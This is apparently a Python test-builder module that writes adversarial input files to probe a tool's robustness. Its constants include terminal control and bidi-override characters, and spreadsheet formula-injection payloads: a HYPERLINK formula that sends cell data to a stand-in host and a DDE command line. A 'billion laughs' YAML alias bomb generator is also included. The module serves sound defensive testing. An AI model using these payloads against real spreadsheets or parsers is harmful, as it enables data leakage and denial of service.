"""The inputs of the robustness matrix: each builds its files in a fresh copy of a case.

A builder gets the row's folder (holding ``case/``, a copy of the example case) and returns
the command to run there and what passing means. Builders only write files; running,
measuring and judging is ``robustness.py``'s job.
"""

from __future__ import annotations

import os
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

MB = 1_000_000
NOBODY = 65534
CONTROLS = "red \x1b[31mALERT\x1b[0m bell\x07 nul\x00 rlo\u202eevil\u202c end"
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
FORMULAS = ('=HYPERLINK("http://x.example/?q="&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)")


@dataclass(frozen=True)
class Outcome:
    """What a run left: exit code, output, and the row's folder to look into."""

    code: int
    out: str
    err: str
    folder: Path


@dataclass
class Scenario:
    """A command to run in the row's folder and what it must do to pass."""

    args: list[str]
    expect: tuple[int, ...] = (2,)
    check: Callable[[Outcome], str | None] | None = None  # a reason to fail, or None
    as_other_user: bool = False  # permissions only bite a user who is not root
    interrupt_after: float | None = None  # send Ctrl-C (SIGINT to the group) after seconds
    before: list[list[str]] = field(default_factory=list)  # commands run first, as root
    env: dict[str, str] = field(default_factory=dict)
    cwd: str = "."  # where to run, inside the row's folder
    input_bytes: int = 0


Builder = Callable[[Path], Scenario]
ROWS: list[tuple[str, str, Builder]] = []  # (group, name, builder)


def row(group: str, name: str) -> Callable[[Builder], Builder]:
    """Register a builder as one row of the matrix."""

    def add(builder: Builder) -> Builder:
        ROWS.append((group, name, builder))
        return builder

    return add


def one_line(outcome: Outcome, *needles: str) -> str | None:
    """Fail unless stderr is one line holding every needle."""
    lines = outcome.err.strip().splitlines()
    if len(lines) != 1:
        return f"{len(lines)} lines on stderr"
    missing = [n for n in needles if n not in lines[0]]
    return f"line lacks {missing}" if missing else None


def source(folder: Path, name: str) -> Path:
    """A source file of the row's case."""
    return folder / "case" / "sources" / name


def _fill(path: Path, size: int, chunk: str) -> int:
    with path.open("w", encoding="utf-8") as handle:
        while handle.tell() < size:
            handle.write(chunk)
        return handle.tell()


def laughs(depth: int = 9) -> str:
    """The classic nested aliases: each level repeats the one before nine times."""
    lines = ['l0: &l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"l{n}: &l{n} [{','.join([f'*l{n - 1}'] * 9)}]" for n in range(1, depth + 1)]
    return "\n".join(lines) + "\n"


def set_quote(folder: Path, quote: str, attribution: str | None = None) -> None:
    """Give sadanews' first claim this quote (and attribution), escaped for YAML."""
    path = source(folder, "sadanews.yaml")
    text = path.read_text(encoding="utf-8")
    escaped = quote.encode("unicode_escape").decode("ascii").replace('"', '\\"')
    old = "    quote: pas moins de 1,65 milliard de dollars entre janvier et septembre 2025\n"
    new = f'    quote: "{escaped}"\n'
    if attribution is not None:
        text = text.replace("    attribution: MSMT report\n", "", 1)
        new += f'    attribution: "{attribution.replace(chr(34), chr(92) + chr(34))}"\n'
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def valid_claims(folder: Path, target: Path, size: int) -> int:
    """A valid source file of about ``size`` bytes: the claims of sadanews, repeated."""
    text = source(folder, "sadanews.yaml").read_text(encoding="utf-8")
    head, claims = text.split("claims:\n", 1)
    with target.open("w", encoding="utf-8") as handle:
        handle.write(head.replace("id: sadanews", f"id: {target.stem}") + "claims:\n")
        while handle.tell() + len(claims.encode()) < size:
            handle.write(claims + "\n")
        return handle.tell()


def open_up(path: Path) -> None:
    """Let another user read and write a folder tree (for the rows run as that user)."""
    for root, _dirs, files in os.walk(path):
        os.chmod(root, 0o777)
        for name in files:
            os.chmod(Path(root) / name, 0o666)
